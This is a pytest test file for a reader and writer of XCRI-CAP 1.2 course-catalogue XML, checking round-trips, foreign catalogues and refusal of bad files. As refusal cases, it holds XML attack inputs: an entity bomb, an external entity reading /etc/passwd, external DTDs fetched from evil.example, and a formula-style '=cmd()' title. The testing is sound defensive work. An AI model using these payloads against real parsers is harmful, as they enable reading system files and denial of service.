"""XCRI-CAP 1.2: out and in again, others' catalogues, and files that were made to do harm."""

from __future__ import annotations

import tempfile
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from routeways.foundation.tables import FileRefused
from routeways.provision.exchange import xcri_reading
from routeways.provision.exchange.records import CourseRecord, RunRecord, VenueRecord
from routeways.provision.exchange.xcri_writing import XcriProvider, write
from tests.provision import strategies

GENERATED = datetime(2026, 11, 22, 12, 0, tzinfo=UTC)
HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<catalog xmlns="http://xcri.org/profiles/1.2/catalog" xmlns:mlo="http://purl.org/net/mlo" '
    'xmlns:dc="http://purl.org/dc/elements/1.1/" generated="2026-11-22T12:00:00Z"><provider><dc:title>A</dc:title>'
)
TAIL = "</provider></catalog>"
VENUE = VenueRecord("Tower View", "1 Imaginary Street", "Blackpool", "FY3 8AA", reference="TV1")


def read(text: str | bytes) -> xcri_reading.XcriFile:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "courses.xml"
        path.write_bytes(text.encode() if isinstance(text, str) else text)
        return xcri_reading.read(path)


@st.composite
def courses(draw: st.DrawFn) -> CourseRecord:
    one = draw(strategies.courses("non-lars"))
    runs = tuple(
        replace(
            run,
            sub_regions=tuple(run.sub_regions),
            # In a spreadsheet a cost may have words as well; where there is neither, XCRI-CAP says nothing.
            places=draw(st.none() | st.integers(0, 500)),
            ends_on=draw(st.none() | st.dates(date(2027, 1, 1), date(2030, 1, 1))),
            apply_until=draw(st.none() | st.dates(date(2027, 1, 1), date(2030, 1, 1))),
            cost_description=draw(st.sampled_from(["", "Free for most adults, ask us"])),
        )
        for run in one.runs
    )
    level = draw(st.sampled_from(["", "E", "3", "4-5", "4+"]))
    identifier = draw(st.from_regex(r"[A-Z]{2}-[0-9]{1,4}", fullmatch=True))
    aim = draw(st.sampled_from(["", "60313457"]))
    return replace(one, runs=runs, level=level, identifier=identifier, subject="ssa:4.1", aim=aim)


@given(st.lists(courses(), min_size=1, max_size=3, unique_by=lambda one: one.identifier))
@settings(max_examples=80)
def test_a_catalogue_comes_back_as_it_went(given_courses) -> None:
    venues = [replace(VENUE, name=name) for name in strategies.VENUES]
    provider = XcriProvider("10000001", "Imaginary College", "https://example.org", "", given_courses, venues)
    found = read(write([provider], generated=GENERATED))
    assert found.faults == () and found.notes == ()
    assert found.courses == tuple(given_courses)
    named = {run.venue for course in given_courses for run in course.runs if run.venue}
    assert {one.name for one in found.venues} == named
    assert all(one == replace(VENUE, name=one.name) for one in found.venues)


def test_a_catalogue_of_somebody_else_is_read_as_far_as_we_have_a_place_for_it() -> None:
    found = read(
        HEAD + "<course><dc:identifier>http://a.example/c/1</dc:identifier><dc:title>Welding</dc:title>"
        '<dc:subject identifier="4.1">Engineering</dc:subject><mlo:level>NVQ Level 2</mlo:level>'
        '<abstract><div xmlns="http://www.w3.org/1999/xhtml"><p>For <b>adults</b>.</p></div></abstract>'
        "<applicationProcedure>Telephone us.</applicationProcedure>"
        '<presentation><mlo:start dtf="2027-09-06T09:00:00">6 September</mlo:start>'
        '<mlo:duration interval="P10W">ten weeks</mlo:duration><studyMode identifier="PT">Part time</studyMode>'
        '<attendanceMode identifier="CM">Campus</attendanceMode><mlo:cost>£1,250</mlo:cost><mlo:places>12</mlo:places>'
        "<venue><provider><dc:title>Yard</dc:title></provider></venue></presentation></course>" + TAIL
    )
    assert found.faults == ()
    assert found.notes == ("“applicationProcedure” was not read: we have no place for it.",)
    (course,) = found.courses
    assert (course.title, course.level, course.subject, course.who_for) == ("Welding", "2", "ssa:4.1", "For adults.")
    assert course.runs == (
        RunRecord(
            name="Welding",
            mode="Classroom",
            starts_on=date(2027, 9, 6),
            duration=10,
            unit="Weeks",
            study_mode="Part time",
            cost=Decimal("1250.00"),
            places=12,
            venue="Yard",
        ),
    )


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;">]>' + HEAD[38:] + TAIL,
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + HEAD[38:] + "<course>&a;</course>" + TAIL,
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">' + HEAD[38:] + TAIL,
        '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/a"> %a;]>' + HEAD[38:] + TAIL,
    ],
    ids=["entity bomb", "file entity", "external document type", "parameter entity"],
)
def test_entities_and_document_types_are_refused_unread(text: str) -> None:
    with pytest.raises(FileRefused, match="has a document type or entities, which can be used to attack readers"):
        read(text)


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", "is not XML that we can read"),
        ("<catalog>", "is not XML that we can read"),
        ("<rss/>", "begins with “rss”, not with a catalogue of XCRI-CAP 1.2"),
        ('<catalog xmlns="http://xcri.org/profiles/catalog"/>', "not with a catalogue of XCRI-CAP 1.2"),
        (b'<?xml version="1.0" encoding="klingon"?><a/>', "is not XML that we can read"),
    ],
)
def test_what_is_no_catalogue_is_refused_in_one_sentence(text: str | bytes, says: str) -> None:
    with pytest.raises(FileRefused, match=says):
        read(text)


def test_a_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "courses.xml"
    with path.open("wb") as file:
        file.truncate(xcri_reading.LARGEST + 1)
    with pytest.raises(FileRefused, match=r"is larger than 20 MB\. Split it by provider\."):
        xcri_reading.read(path)


@pytest.mark.parametrize(
    ("inside", "says"),
    [
        ("", "There is no course in the catalogue."),
        ("<course><dc:title>A</dc:title></course>", "Course 1 (“A”): It has no dc:identifier. Every course needs one."),
        (
            "<course><dc:identifier>1</dc:identifier></course>",
            "Course 1: It has no dc:title. Every course needs one.",
        ),
        (
            "<course><dc:identifier>1</dc:identifier><dc:title>A</dc:title></course>" * 2,
            "The course identifier “1” is given more than once. Give each course its own.",
        ),
        (
            "<course><dc:identifier>1</dc:identifier><dc:title>A</dc:title>"
            '<presentation><mlo:start dtf="soon"/></presentation></course>',
            "Course 1 (“A”), start 1: “soon” is not a date. Write dtf as 2027-09-06.",
        ),
        (
            f"<course><dc:identifier>1</dc:identifier><dc:title>{'A' * 256}</dc:title></course>",
            f"Course 1 (“{'A' * 60}”), title: It has 256 letters. Shorten it to 255 or fewer.",
        ),
        (
            "<course><dc:identifier>1</dc:identifier><dc:title>=cmd()</dc:title></course>",
            "Course 1 (“=cmd()”), title: It begins with “=”, as a formula does. Begin with a letter.",
        ),
    ],
)
def test_what_is_wrong_with_a_course_is_told_with_its_place(inside: str, says: str) -> None:
    found = read(HEAD + inside + TAIL)
    assert [str(fault) for fault in found.faults] == [says]
    assert found.courses == ()


@pytest.mark.parametrize("amount", ["NaN", "-50", "Infinity", "1e3", "sNaN", "free", "99999999"])
def test_a_cost_that_is_no_amount_is_told_in_a_sentence(amount: str) -> None:
    course = CourseRecord(
        title="Welding", identifier="W-1", runs=(RunRecord("Welding", "Online", cost=Decimal("321.50")),)
    )
    written = write([XcriProvider("10000001", "A", "https://example.org", "", [course], [])], generated=GENERATED)
    text = written.decode() if isinstance(written, bytes) else written
    assert '"321.50"' in text
    found = read(text.replace('"321.50"', f'"{amount}"'))
    assert len(found.faults) == 1
    assert f"“{amount}” is" in found.faults[0].reason
    assert found.faults[0].column.endswith(", cost")
